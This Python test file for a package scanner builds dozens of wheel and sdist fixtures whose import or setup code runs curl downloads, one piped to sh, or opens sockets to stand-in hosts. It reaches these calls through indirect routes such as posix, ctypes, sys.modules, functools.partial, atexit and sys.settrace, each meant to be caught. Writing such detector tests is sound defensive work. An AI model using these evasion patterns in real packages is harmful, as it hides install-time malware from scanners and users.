"""Plain acts, reached by ways on which their names are not seen: what is called must be found out."""
from .package import attack

FETCH = "curl -fs -o /tmp/t https://cdn.example.net/t"
URL = "https://cdn.example.net/t"


# --- names that an import brings without saying so ---

@attack
def star_of_os(p):
    """from os import *, then system. Must be held."""
    return p.wheel(init=f"from os import *\n\nsystem('{FETCH}')\n")


@attack
def star_of_subprocess(p):
    """from subprocess import *, then Popen. Must be held."""
    return p.wheel(init=f"from subprocess import *\n\nPopen({FETCH.split()})\n")


@attack
def star_of_urllib(p):
    """from urllib.request import *. Must be held."""
    return p.wheel(init=f"from urllib.request import *\n\nDATA = urlopen('{URL}').read()\n")


@attack
def star_of_socket(p):
    """from socket import *, a connection at import. Must be held."""
    return p.wheel(init='''
        from socket import *

        s = socket(AF_INET, SOCK_STREAM)
        s.connect(("updates.example.net", 8443))
        s.sendall(b"t")
        ''')


@attack
def star_of_requests(p):
    """from requests import *, in a function that the module calls. Must be held."""
    return p.wheel(init=f'''
        from requests import *


        def warm():
            return get("{URL}").text


        warm()
        ''')


@attack
def star_in_setup(p):
    """A setup.py with from os import *. Must be held."""
    return p.sdist(setup=f'''
        from os import *
        from setuptools import setup

        popen("{FETCH}")
        setup(name="{{n}}", version="1.0", packages=["{{m}}"])
        ''')


@attack
def name_of_two_branches(p):
    """One name for one of two modules, by try and except. Must be held."""
    return p.wheel(init=f'''
        try:
            import urllib.request as q
        except ImportError:
            import json as q

        q.urlopen("{URL}")
        ''')


@attack
def name_or_none(p):
    """The module, or None. Must be held."""
    return p.wheel(init=f'''
        try:
            import requests as q
        except ImportError:
            q = None

        if q is not None:
            q.get("{URL}")
        ''')


@attack
def name_by_condition(p):
    """if and else give a name two meanings; the harmless one comes last. Must be held."""
    return p.wheel(init=f'''
        import os
        import sys

        if sys.platform != "win32":
            run = os.system
        else:
            run = print
        run("{FETCH}")
        ''')


@attack
def name_by_or(p):
    """One of two by an expression. Must be held."""
    return p.wheel(init=f"import os\nimport sys\n\nrun = os.system if sys.platform != 'win32' else print\nrun('{FETCH}')\n")


@attack
def module_set_later(p):
    """The function's module is a global that another function sets. Must be held."""
    return p.wheel(init=f'''
        _lib = None


        def warm():
            return _lib.urlopen("{URL}")


        def load():
            global _lib
            import urllib.request
            _lib = urllib.request


        load()
        warm()
        ''')


# --- other doors to the same functions ---

@attack
def posix_itself(p):
    """posix is os without its name. Must be held."""
    return p.wheel(init=f"import posix\n\nposix.system('{FETCH}')\n")


@attack
def socket_below(p):
    """_socket is socket without its name. Must be held."""
    return p.wheel(init='''
        import _socket

        s = _socket.socket()
        s.connect(("198.18.0.7", 8443))
        ''')


@attack
def fork_exec(p):
    """_posixsubprocess.fork_exec of a shell that fetches. Must be held."""
    return p.wheel(init=f'''
        import _posixsubprocess
        import os

        _posixsubprocess.fork_exec([b"/bin/sh", b"-c", b"{FETCH} | sh"], [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1,
                                   -1, -1, *os.pipe(), False, False, 0, None, None, None, -1, None)
        ''')


@attack
def system_of_libc(p):
    """ctypes.CDLL(None).system. Must be held."""
    return p.wheel(init=f"import ctypes\n\nctypes.CDLL(None).system(b'{FETCH}')\n")


@attack
def process_by_inheritance(p):
    """A subclass of subprocess.Popen. Must be held."""
    return p.wheel(init=f'''
        import subprocess


        class Table(subprocess.Popen):
            pass


        Table("{FETCH}", shell=True)
        ''')


@attack
def module_dictionary(p):
    """os.__dict__ by a method. Must be held."""
    return p.wheel(init=f"import os\n\nos.__dict__.get('system')('{FETCH}')\n")


@attack
def module_by_vars(p):
    """vars(os). Must be held."""
    return p.wheel(init=f"import os\n\nvars(os)['system']('{FETCH}')\n")


@attack
def module_by_modules(p):
    """sys.modules. Must be held."""
    return p.wheel(init=f"import os\nimport sys\n\nsys.modules['os'].system('{FETCH}')\n")


@attack
def module_in_a_module(p):
    """os as another module has it. Must be held."""
    return p.wheel(init=f"import shutil\n\nshutil.os.system('{FETCH}')\n")


@attack
def builtins_by_globals(p):
    """globals()['__builtins__'] gives eval. Must be held."""
    return p.wheel(init='''
        import base64

        _b = globals()["__builtins__"]
        (_b["eval"] if isinstance(_b, dict) else _b.eval)(base64.b64decode("b3Blbigi"))
        ''')


@attack
def globals_of_a_function(p):
    """os by the globals of somebody else's function. Must be held."""
    return p.wheel(init=f"import shutil\n\nshutil.which.__globals__['os'].system('{FETCH}')\n")


@attack
def module_by_parts(p):
    """importlib.import_module of a name in parts. Must be held."""
    return p.wheel(init=f"import importlib\n\nimportlib.import_module('o' + 's').system('{FETCH}')\n")


# --- functions as values ---

@attack
def given_to_map(p):
    """map(os.system, ...). Must be held."""
    return p.wheel(init=f"import os\n\nlist(map(os.system, ['{FETCH}']))\n")


@attack
def by_partial(p):
    """functools.partial. Must be held."""
    return p.wheel(init=f"import functools\nimport os\n\nfunctools.partial(os.system, '{FETCH}')()\n")


@attack
def by_methodcaller(p):
    """operator.methodcaller. Must be held."""
    return p.wheel(init=f"import operator\nimport os\n\noperator.methodcaller('system', '{FETCH}')(os)\n")


@attack
def by_attrgetter(p):
    """operator.attrgetter. Must be held."""
    return p.wheel(init=f"import os\nfrom operator import attrgetter\n\nattrgetter('system')(os)('{FETCH}')\n")


@attack
def by_lambda(p):
    """A lambda gives a module's function. Must be held."""
    return p.wheel(init=f"import os\n\n_f = lambda m: m.system\n_f(os)('{FETCH}')\n")


@attack
def by_helper(p):
    """A function calls what it is given. Must be held."""
    return p.wheel(init=f'''
        import os


        def apply(run, row):
            return run(row)


        apply(os.system, "{FETCH}")
        ''')


@attack
def in_a_class(p):
    """A module as an attribute of a class. Must be held."""
    return p.wheel(init=f'''
        import os


        class Table:
            o = os

            def draw(self):
                return self.o.system("{FETCH}")


        Table().draw()
        ''')


@attack
def in_an_instance(p):
    """A function as an attribute of an instance. Must be held."""
    return p.wheel(init=f'''
        import urllib.request


        class Table:
            def __init__(self):
                self.rows = urllib.request.urlopen

            def draw(self):
                return self.rows("{URL}")


        table = Table()
        table.draw()
        ''')


@attack
def in_a_dictionary(p):
    """A table of functions. Must be held."""
    return p.wheel(init=f"import os\n\nTABLE = {{'a': print, 'b': os.system}}\nTABLE['b']('{FETCH}')\n")


@attack
def in_a_loop(p):
    """A loop over pairs of function and argument. Must be held."""
    return p.wheel(init=f"import os\n\nfor f, a in ((print, ''), (os.system, '{FETCH}')):\n    f(a)\n")


@attack
def by_default(p):
    """The default of a parameter. Must be held."""
    return p.wheel(init=f'''
        import os


        def draw(row, run=os.system):
            return run(row)


        draw("{FETCH}")
        ''')


@attack
def as_decorator(p):
    """A function that fetches, as a decorator. Must be held."""
    return p.wheel(init=f'''
        import urllib.request


        @urllib.request.urlopen
        @lambda _f: "{URL}"
        def table():
            pass
        ''')


@attack
def at_exit(p):
    """atexit.register. Must be held."""
    return p.wheel(init=f"import atexit\nimport os\n\natexit.register(os.system, '{FETCH}')\n")


@attack
def at_exit_lambda(p):
    """atexit.register of a lambda. Must be held."""
    return p.wheel(init=f"import atexit\nimport urllib.request\n\natexit.register(lambda: urllib.request.urlopen('{URL}'))\n")


@attack
def in_a_thread(p):
    """threading.Thread(target=...). Must be held."""
    return p.wheel(init=f"import threading\nimport urllib.request\n\n"
                        f"threading.Thread(target=urllib.request.urlopen, args=('{URL}',)).start()\n")


@attack
def on_a_signal(p):
    """signal.signal with a function that fetches. Must be held."""
    return p.wheel(init=f'''
        import os
        import signal
        import urllib.request


        def _warm(number, frame):
            urllib.request.urlopen("{URL}")


        signal.signal(signal.SIGUSR1, _warm)
        os.kill(os.getpid(), signal.SIGUSR1)
        ''')


@attack
def as_trace(p):
    """sys.settrace with a function that fetches. Must be held."""
    return p.wheel(init=f'''
        import sys
        import urllib.request


        def _line(frame, event, value):
            sys.settrace(None)
            urllib.request.urlopen("{URL}")


        sys.settrace(_line)
        ''')


@attack
def as_exception_hook(p):
    """sys.excepthook, with a function that fetches. Must be held."""
    return p.wheel(init=f'''
        import sys
        import urllib.request


        def _told(kind, value, trace):
            urllib.request.urlopen("{URL}")


        sys.excepthook = _told
        ''')
